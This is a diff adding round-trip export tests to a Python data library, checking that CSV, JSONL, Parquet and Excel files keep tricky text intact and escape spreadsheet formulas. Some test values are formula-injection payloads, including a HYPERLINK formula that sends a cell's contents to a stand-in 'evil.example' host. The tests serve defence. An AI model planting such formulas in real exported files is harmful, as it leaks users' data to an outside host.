@@ -5,11 +5,16 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
+import tempfile
 from pathlib import Path
 
 import pandas as pd
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
+from socialframe._display import export
 from socialframe.sandbox import EXAMPLE_POSTS, PinnedClock, Sandbox
 
 
@@ -117,3 +122,200 @@ def test_csv_numeric_ids_and_formulas(tmp_path: Path) -> None:
     excel = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
     assert excel[0]["page_id"] == '="7384427202391592960"'
     assert [r["text"] for r in excel] == ['\'=HYPERLINK("http://evil","x")', "'+1 great"]
+
+
+# -- every export reads back row for row, whatever the text holds ----------------------------
+
+#: What breaks readers of text files: line breaks of every kind, NUL, escapes, quotes,
+#: separators, what spreadsheets run, Unicode's own line and paragraph separators, a BOM,
+#: NEL, OOXML's escapes, words that readers take for missing values.
+TRICKY = (
+    "\r", "\n", "\r\n", "\n\r", "\x00", "\x1b[31m", '"', '""', "'", ",", ";", "\t", "=",
+    "+", "-", "@", "\u2028", "\u2029", "\ufeff", "\x85", "\x0b", "\x0c", "#", " ", "é",
+    "😀", "_x000D_", "NA", "null", "None", "True", "[1]", '{"a"', "\\", "\\N",
+)  # fmt: skip
+
+
+def _text_columns(frame: pd.DataFrame) -> list[str]:
+    return [str(n) for n in frame.columns if isinstance(frame[n].dtype, pd.StringDtype)]
+
+
+def _missing(value: object) -> object:
+    return None if value is None or value is pd.NA else value
+
+
+def _blank(value: object) -> object:
+    """A CSV holds no difference between an empty text and a missing one."""
+    return None if _missing(value) is None or value == "" else value
+
+
+def _xml(value: object) -> object:
+    """A text as .xlsx holds it (see export.write): control characters as U+FFFD, a CR
+    as a line feed (XML keeps none), cut at Excel's 32,767 characters."""
+    if not isinstance(value, str):
+        return _blank(value)
+    kept = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", value)
+    kept = kept.replace("\r\n", "\n").replace("\r", "\n")
+    if len(kept) > 32_767:
+        kept = kept[:32_766] + "…"
+    return _blank(kept)
+
+
+def _read_back(frame: pd.DataFrame, folder: Path) -> None:
+    """``frame`` through every export and back: every row, every text as it was."""
+    texts = _text_columns(frame)
+    for name, excel, exact in (
+        ("plain.csv", False, False),
+        ("excel.csv", True, False),
+        ("rows.jsonl", False, True),
+        ("rows.parquet", False, True),
+    ):
+        path = folder / name
+        export.write(frame, path, excel=excel)
+        back = export.read_frame(path)
+        assert len(back) == len(frame), name
+        for column in texts:
+            keep = _missing if exact else _blank
+            wanted = [keep(v) for v in frame[column].astype(object)]
+            got = [keep(v) for v in back[column].astype(object)]
+            assert got == wanted, (name, column)
+    # pandas' own reader, on the plain CSV (exact data for programs)
+    plain = pd.read_csv(folder / "plain.csv", dtype=str, keep_default_na=False)
+    assert len(plain) == len(frame)
+    for column in texts:
+        assert [_blank(v) for v in plain[column]] == [_blank(v) for v in frame[column]], column
+    # and .xlsx, as openpyxl reads it
+    export.write(frame, folder / "book.xlsx")
+    book = pd.read_excel(folder / "book.xlsx", dtype=str, keep_default_na=False)
+    assert len(book) == len(frame)
+    for column in texts:
+        assert [_blank(v) for v in book[column]] == [_xml(v) for v in frame[column]], column
+
+
+def _with_texts(rows: list[list[str | None]]) -> pd.DataFrame:
+    """The sandbox's comments, cut to ``len(rows)``, their text columns holding ``rows``."""
+    from socialframe.sandbox import example_comments
+
+    frame = example_comments().head(len(rows)).reset_index(drop=True)
+    for number, column in enumerate(_text_columns(frame)):
+        values = [row[number % len(row)] for row in rows]
+        frame[column] = pd.array(values, dtype=frame[column].dtype)
+    return frame
+
+
+_TEXT = st.lists(st.one_of(st.sampled_from(TRICKY), st.text(max_size=4)), max_size=6).map("".join)
+
+
+@pytest.mark.slow  # many examples, five files each
+@settings(max_examples=60, deadline=None)
+@given(
+    rows=st.lists(
+        st.lists(st.one_of(st.none(), _TEXT), min_size=1, max_size=5), min_size=1, max_size=4
+    )
+)
+def test_every_export_reads_back_row_for_row_whatever_the_text_holds(
+    rows: list[list[str | None]],
+) -> None:
+    with tempfile.TemporaryDirectory() as folder:
+        _read_back(_with_texts(rows), Path(folder))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a bare\rCR",
+        "CRLF\r\nand LF\nand CR\r",
+        "\r",
+        "NUL \x00 and ESC \x1b[2J",
+        'quotes "" and "',
+        "\u2028line separator\u2029paragraph",
+        "\ufeffa BOM first",
+        "=1+1",
+        "'=1+1",
+        "''@x",
+        '="7384427202391592960"',
+        "x" * 100_000,
+    ],
+    ids=lambda t: repr(t[:24]),
+)
+def test_each_hard_text_reads_back_from_every_export(text: str, tmp_path: Path) -> None:
+    frame = _with_texts([[text, "plain", None], ["second row", text, ""]])
+    _read_back(frame, tmp_path)
+
+
+def test_a_bare_cr_is_quoted_in_the_plain_csv_and_rows_end_in_lf(tmp_path: Path) -> None:
+    """Python's csv quotes the characters of its line end only (LF here): a bare CR went
+    out unquoted, and pandas read 84 rows instead of 82."""
+    from socialframe.sandbox import example_comments
+
+    comments = example_comments()
+    comments.loc[[3, 40], "text"] = ["one\rtwo", "end with CR\r"]
+    path = comments.social.to_csv(tmp_path / "c.csv")
+    raw = path.read_bytes()
+    assert b'"one\rtwo"' in raw and b'"end with CR\r"' in raw
+    assert raw.count(b"\r") == 2  # rows end in LF: the only CRs are the texts'
+    assert len(pd.read_csv(path, dtype=str)) == 82
+    with path.open(newline="", encoding="utf-8") as handle:
+        assert len(list(csv.reader(handle))) == 83
+
+
+def test_a_lone_surrogate_becomes_a_replacement_mark_and_the_row_stays(tmp_path: Path) -> None:
+    """UTF-8, Parquet and XML cannot hold one (a frame of ours never does: the service's
+    text is cleaned; a frame a user builds may): written as U+FFFD, every row kept."""
+    frame = pd.DataFrame(
+        {
+            "text": pd.Series(
+                ["half \ud83d of an emoji", "a pair \ud83d\ude00 joins", None], dtype=object
+            ),
+            "tags": [["ok", "\udcff"], [], None],
+            "n": [1, 2, 3],
+        }
+    )
+    for name in ("s.csv", "s.jsonl", "s.parquet", "s.xlsx"):
+        export.write(frame, tmp_path / name)
+    assert pd.read_csv(tmp_path / "s.csv")["text"].tolist()[:2] == [
+        "half \ufffd of an emoji",
+        "a pair 😀 joins",
+    ]
+    lines = (tmp_path / "s.jsonl").read_text(encoding="utf-8").splitlines()
+    assert [json.loads(line)["tags"] for line in lines] == [["ok", "\ufffd"], [], None]
+    assert pd.read_parquet(tmp_path / "s.parquet")["text"].tolist()[0] == "half \ufffd of an emoji"
+    assert len(pd.read_excel(tmp_path / "s.xlsx")) == 3
+
+
+def test_standard_output_carries_the_same_rows(capsysbinary: pytest.CaptureFixture[bytes]) -> None:
+    frame = _with_texts([["a\rb", "c\r\nd", "=1+1"], ["e\n", "\x00", "'x"]])
+    for excel in (False, True):
+        export.write(frame, None, excel=excel)
+        out = capsysbinary.readouterr().out
+        back = export.read_frame(io.BytesIO(out))
+        assert len(back) == 2
+        for column in _text_columns(frame):
+            assert [_blank(v) for v in back[column]] == [_blank(v) for v in frame[column]]
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("7384427202391592960", '="7384427202391592960"'),
+        (
+            '1"&HYPERLINK("http://evil.example/?"&G2,"open")&"',
+            '1"&HYPERLINK("http://evil.example/?"&G2,"open")&"',
+        ),
+        ("=1+1", "'=1+1"),
+        ("-5", "'-5"),
+        ('="5"', '\'="5"'),
+        ("urn:li:person:ABC", "urn:li:person:ABC"),
+    ],
+)
+def test_excel_ids_of_digits_alone_become_a_formula_and_read_back(
+    value: str, written: str, tmp_path: Path
+) -> None:
+    """``="<id>"`` was written around any id, unescaped: an id holding
+    ``1"&HYPERLINK(...)&"`` became a live formula (LibreOffice showed ``1open``)."""
+    frame = _with_texts([[value]])
+    path = export.write(frame, tmp_path / "x.csv", excel=True)
+    assert path is not None
+    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
+    assert rows[0]["author_id"] == written
+    assert export.read_frame(path)["author_id"].tolist() == [value]
